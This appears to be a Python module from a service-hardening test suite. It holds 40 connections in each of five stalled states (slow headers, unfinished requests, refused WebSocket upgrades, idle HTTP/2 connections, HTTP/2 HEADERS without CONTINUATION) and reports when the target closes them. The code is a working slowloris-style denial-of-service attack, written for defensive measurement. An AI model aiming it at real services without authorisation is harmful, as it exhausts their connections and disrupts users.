"""Hold 40 connections in each of five states that no legitimate client stays in."""

import asyncio
import struct
import time
from statistics import median

from attacks.target import Target

CONNECTIONS = 40
SECONDS = 15.0
"""The longest that an attacker waits for the end of a connection. HTTP/2 without streams is
idle, and the keep-alive timeout is longer than that."""

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + struct.pack(">IBI", 4, 0, 0)
UPGRADE = b"GET / HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n"
# HEADERS without END_HEADERS.
HEADERS = struct.pack(">I", 1)[1:] + struct.pack(">BBI", 1, 0, 1) + b"\x82"

STATES = {
    "slow header section": (b"GET / HTTP/1.1\r\n", b"X"),
    "request without an end": (b"GET / HTTP/1.1\r\nHost: x\r\n", b""),
    "refused WebSocket": (UPGRADE, b""),
    "HTTP/2 without streams": (PREFACE, b""),
    "HTTP/2 without CONTINUATION": (PREFACE + HEADERS, b""),
}
"""The bytes that are sent at once, and those that follow every second."""


async def attack(target: Target) -> str:
    """Enter each state, and measure when the service closes the connection."""
    held = await asyncio.gather(
        *(_hold(target, *state) for state in STATES.values() for _ in range(CONNECTIONS))
    )
    results = []
    for number, name in enumerate(STATES):
        ends = held[number * CONNECTIONS : (number + 1) * CONNECTIONS]
        closed = [end for end in ends if end is not None]
        after = f" after {median(closed):.1f} s" if closed else ""
        results.append(f"{name}: {len(closed)} of {CONNECTIONS} closed{after}")
    return "; ".join(results)


async def _hold(target: Target, first: bytes, more: bytes) -> float | None:
    start = time.monotonic()
    reader, writer = await asyncio.open_connection(target.host, target.port)
    try:
        async with asyncio.timeout(SECONDS):
            writer.write(first)
            while True:
                try:
                    async with asyncio.timeout(1):
                        while await reader.read(65536):
                            pass
                    return time.monotonic() - start
                except TimeoutError:
                    writer.write(more)
    except TimeoutError:
        return None
    except OSError:
        return time.monotonic() - start
    finally:
        writer.close()
